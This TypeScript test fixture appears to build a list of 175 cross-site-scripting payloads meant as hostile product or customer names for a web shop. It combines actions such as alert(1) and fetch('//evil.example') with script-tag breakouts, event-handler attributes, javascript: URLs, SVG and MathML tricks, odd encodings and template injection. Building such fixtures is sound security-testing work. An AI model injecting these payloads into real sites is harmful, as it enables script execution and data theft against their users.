// Names that a shop's catalogue or a customer could hold. Own collection, by idea: break out of text, of attributes, of comments, of scripts, of styles; odd encodings; odd characters.
const actions = ['alert(1)', "fetch('//evil.example')", 'top.location=1', 'document.title=1', 'window.hit=1'];

const shapes: readonly ((action: string) => string)[] = [
  (a) => `<script>${a}</script>`,
  (a) => `</script><script>${a}</script>`,
  (a) => `<img src=x onerror=${a}>`,
  (a) => `"><img src=x onerror="${a}">`,
  (a) => `'><svg onload='${a}'>`,
  (a) => `<svg/onload=${a}>`,
  (a) => `</svg><script>${a}</script>`,
  (a) => `</text><foreignObject><body onload=${a}></foreignObject>`,
  (a) => `</style><script>${a}</script>`,
  (a) => `</title><script>${a}</script>`,
  (a) => `</bdi></td></tr></table><iframe srcdoc="<script>${a}</script>"></iframe>`,
  (a) => `--><script>${a}</script><!--`,
  (a) => `]]><script>${a}</script>`,
  (a) => `" onmouseover="${a}" x="`,
  (a) => `' onfocus='${a}' autofocus='`,
  (a) => '` onclick=`' + a + '` x=`',
  (a) => `javascript:${a}`,
  (a) => `<a href="javascript:${a}">x</a>`,
  (a) => `<a href="jAvAsCrIpT&colon;${a}">x</a>`,
  (a) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${a}></style>`,
  (a) => `<details open ontoggle=${a}>`,
  (a) => `<object data="data:text/html,<script>${a}</script>"></object>`,
  (a) => `<meta http-equiv="refresh" content="0;url=javascript:${a}">`,
  (a) => `<base href="//evil.example/"><script>${a}</script>`,
  (a) => `&lt;script&gt;${a}&lt;/script&gt;`,
  (a) => `&#60;script&#62;${a}`,
  (a) => `\u0000<script>${a}</script>`,
  (a) => `<scr\u0000ipt>${a}</script>`,
  (a) => `\u2028</script><script>${a}</script>\u2029`,
  (a) => `\u202e<script>${a}</script>`,
  (a) => `شامپو <b onclick=${a}>بچه</b>`,
  (a) => `+ADw-script+AD4-${a}`,
  (a) => `\ud83d<script>${a}</script>`,
  (a) => `{{constructor.constructor('${a}')()}}`,
  (a) => `\${${a}}`,
];

/** 175 hostile names. */
export const xssPayloads: readonly string[] = actions.flatMap((action) => shapes.map((shape) => shape(action)));
